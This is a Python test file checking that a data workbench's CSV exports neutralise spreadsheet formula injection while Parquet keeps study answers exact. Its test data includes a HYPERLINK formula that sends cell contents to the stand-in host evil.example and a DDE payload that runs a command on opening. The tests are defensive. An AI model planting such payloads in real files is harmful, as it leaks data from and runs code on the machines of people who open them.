"""CSV outputs: text a spreadsheet would run as a formula is neutralised; Parquet is untouched."""

from __future__ import annotations

import io

import httpx
import polars as pl
import pytest

from tests.conftest import configure
from workbench.decoded import source_folder
from workbench.export import export_source
from workbench.reports import questionnaire_report
from workbench.simulators.study_server import StudyServer, demo_tables
from workbench.writers import csv_bytes, neutralise_text, write_report

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=1+1",
    "+9",
    "-3",
    "-x",
    "@A1",
    "@SUM(A1:A9)",
    "\tcmd",
    "\r=1",
]
HARMLESS = ["", "plain", "3", "3-4", "a=b", "x@y.org", " =1", "'already quoted", "ä=1"]


def _read_cells(data: bytes) -> list[str]:
    return pl.read_csv(io.BytesIO(data), infer_schema=False)["v"].to_list()


@pytest.mark.parametrize("value", HOSTILE)
def test_a_formula_like_text_cell_gets_a_quote(value):
    assert neutralise_text(value) == "'" + value
    assert _read_cells(csv_bytes(pl.DataFrame({"v": [value]}))) == ["'" + value]


@pytest.mark.parametrize("value", HARMLESS)
def test_harmless_text_is_written_as_is(value):
    assert neutralise_text(value) == value
    assert _read_cells(csv_bytes(pl.DataFrame({"v": [value]}))) == [value]


def test_numbers_dates_and_nulls_stay_what_they_are():
    frame = pl.DataFrame(
        {
            "int": [-3, 4],
            "float": [-0.5, 1e-3],
            "flag": [True, False],
            "day": pl.Series(["2026-01-02", None]).str.to_date(),
            "text": ["-3", None],
        }
    )
    lines = csv_bytes(frame).decode().splitlines()
    assert lines == ["int,float,flag,day,text", "-3,-0.5,true,2026-01-02,'-3", "4,0.001,false,,"]


def test_column_names_that_look_like_formulas_are_neutralised_too():
    frame = pl.DataFrame({"=cmd()": [1], "'=cmd()": [2], "ok": ["@x"]})
    assert csv_bytes(frame).decode().splitlines() == ["''=cmd(),'=cmd(),ok", "1,2,'@x"]


@pytest.fixture
def hostile_server(keys):
    tables, deleteable = demo_tables(keys / "public_key.pem", participants=3, days=2, seed=2)
    server = StudyServer(tables, deleteable=deleteable, user="mt", password="secret")
    template = {k: v for k, v in server.tables["PHQ9"][0].items() if k != "id"}
    server.add_rows("PHQ9", [{**template, "session": value} for value in HOSTILE])
    return server


def test_decoded_csv_neutralises_formulas_and_parquet_keeps_them(
    home, keys, monkeypatch, hostile_server, catalog
):
    config = configure(home, keys, monkeypatch)
    transport = httpx.WSGITransport(app=hostile_server.app())
    assert export_source(config, "mindtrails", transport=transport, catalog=catalog).ok
    folder = source_folder(config, "mindtrails") / "decoded" / "PHQ9"
    csv_sessions, parquet_sessions = [], []
    for path in folder.glob("PHQ9_*.csv"):
        csv_sessions += pl.read_csv(path, infer_schema=False)["session"].to_list()
        parquet_sessions += pl.read_parquet(path.with_suffix(".parquet"))["session"].to_list()
    assert set(HOSTILE) <= set(parquet_sessions)  # Parquet: the answers exactly as given
    assert {"'" + v for v in HOSTILE} <= set(csv_sessions)
    assert not [v for v in csv_sessions if v.startswith(("=", "+", "-", "@", "\t", "\r"))]
    interest = pl.read_csv(next(folder.glob("PHQ9_*.csv")))["interest"]
    assert interest.dtype == pl.Int64  # numbers stay numbers


def test_report_csv_neutralises_formulas(
    home, keys, monkeypatch, hostile_server, catalog, tmp_path
):
    config = configure(home, keys, monkeypatch)
    hostile_server.add_rows("GAD7", [{"=cmd|' /C calc'!A0": "1", "date": "2026-01-01T00:00:00Z"}])
    transport = httpx.WSGITransport(app=hostile_server.app())
    assert export_source(config, "mindtrails", transport=transport, catalog=catalog).ok
    table = questionnaire_report(config, "mindtrails")
    assert "=cmd|' /C calc'!A0" in table["column"].to_list()
    paths = write_report(tmp_path / "reports", "quality", {"columns": table}, title="q")
    written = pl.read_csv(paths[0], infer_schema=False)
    assert "'=cmd|' /C calc'!A0" in written["column"].to_list()
    assert not [v for v in written["column"].to_list() if v.startswith(("=", "+", "-", "@"))]
    assert "=cmd|' /C calc'!A0" in pl.read_parquet(paths[1])["column"].to_list()
